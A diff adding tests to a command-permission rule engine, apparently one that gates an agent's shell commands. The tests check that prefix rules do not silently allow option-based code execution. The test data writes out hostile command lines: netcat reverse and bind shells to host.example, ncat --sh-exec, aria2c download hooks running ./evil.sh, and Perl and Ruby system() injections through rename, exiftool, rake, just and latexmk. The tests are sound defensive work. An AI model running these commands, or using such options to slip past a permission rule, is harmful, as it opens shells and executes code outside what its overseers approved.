@@ -206,6 +206,72 @@ describe('what a prefix rule does not cover', () => {
     expect(await decided('test -f package.json && test -d "$HOME/src"', rules)).toBe('allow');
   });
 
+  it('a builtin and programs whose words run a command or code are exact-only (found in review)', async () => {
+    // `jobs -x touch PWNED` ran `touch` under a rule for `jobs`, and `rename 'system("…")' x` Perl under one for `rename`.
+    for (const [name, line] of [
+      ['jobs', 'jobs -x touch PWNED'],
+      ['rename', `rename 'system("touch PWNED")' x`],
+      ['prename', `prename 'system("touch PWNED")' x`],
+      ['file-rename', `file-rename 'system("touch PWNED")' x`],
+      ['perl-rename', `perl-rename 'system("touch PWNED")' x`],
+      ['exiftool', `exiftool -if 'system("touch PWNED")' x.jpg`],
+      ['erb', 'erb x.erb'],
+      ['zrun', 'zrun sh x.gz'],
+      ['logsave', 'logsave log touch PWNED'],
+    ] as const) {
+      expect(isExactOnlyCommand(name), name).toBe(true);
+      expect(() => prefix(name), name).toThrow(/must be exact/);
+      expect(await decided(line, [{ ...prefix('ls'), match: { kind: 'command-prefix', tokens: [name], exact: false } }]), line).toBe('ask');
+    }
+    expect(await decided('jobs', [prefix('jobs', { exact: true })])).toBe('allow');
+  });
+
+  it('options through which split, sdiff, diff3, netcat, aria2c, rake, just and latexmk run a command (found in review)', async () => {
+    // `split --filter='touch PWNED' x` and `sdiff --diff-program=./x a b` ran the command under a rule for the program.
+    for (const [token, line] of [
+      ['split', "split --filter='touch PWNED' x"],
+      ['split', "split --fil='touch PWNED' x"],
+      ['sdiff', 'sdiff --diff-program=./evil a b'],
+      ['sdiff', 'sdiff --diff-p ./evil a b'],
+      ['diff3', 'diff3 --diff-program=./evil a b c'],
+      ['nc', 'nc -e /bin/sh host.example 4444'],
+      ['nc', 'nc -lvnpe sh 4444'],
+      ['netcat', "netcat -c 'touch PWNED' host.example 4444"],
+      ['ncat', "ncat --sh-exec 'touch PWNED' host.example 4444"],
+      ['ncat', 'ncat --lua-e=x.lua host.example 4444'],
+      ['aria2c', 'aria2c --on-download-complete=./evil.sh https://example.com/x'],
+      ['aria2c', 'aria2c --on-download-c ./evil.sh https://example.com/x'],
+      ['aria2c', 'aria2c --conf-path=./evil.conf https://example.com/x'],
+      ['aria2c', 'aria2c --enable-rpc'],
+      ['rake test', `rake test -e 'system("touch PWNED")'`],
+      ['rake test', 'rake test -rx'],
+      ['rake test', 'rake test RUBYOPT=-r./evil'],
+      ['rake test', 'rake test deploy'],
+      ['just test', 'just test --shell ./evil'],
+      ['just test', "just --command 'touch PWNED'"],
+      ['just test', "just test x='$(touch PWNED)'"],
+      ['just test', 'just test deploy'],
+      ['latexmk', "latexmk -e '$pdflatex=q/touch PWNED/' x.tex"],
+      ['latexmk', "latexmk -pdflatex='touch PWNED %S' x.tex"],
+      ['latexmk', 'latexmk -r evil.rc x.tex'],
+      ['latexmk', 'latexmk x.tex -- -e x'],
+    ] as const) {
+      expect(await decided(line, [prefix(token)]), line).toBe('ask');
+    }
+    for (const [token, line] of [
+      ['split', 'split -l 1000 big.log part-'],
+      ['sdiff', 'sdiff -s a b'],
+      ['diff3', 'diff3 a b c'],
+      ['nc', 'nc -zv host.example 80'],
+      ['aria2c', 'aria2c -x4 https://example.com/x'],
+      ['rake test', 'rake test --trace -q'],
+      ['just test', 'just test -q'],
+      ['latexmk', 'latexmk -pdf -interaction=nonstopmode x.tex'],
+    ] as const) {
+      expect(await decided(line, [prefix(token)]), line).toBe('allow');
+    }
+  });
+
   it('options through which a package manager, git, make, cargo or go run other code', async () => {
     const rules = [prefix('npm test'), prefix('git log'), prefix('make test'), prefix('go test'), prefix('cargo test')];
     for (const command of [
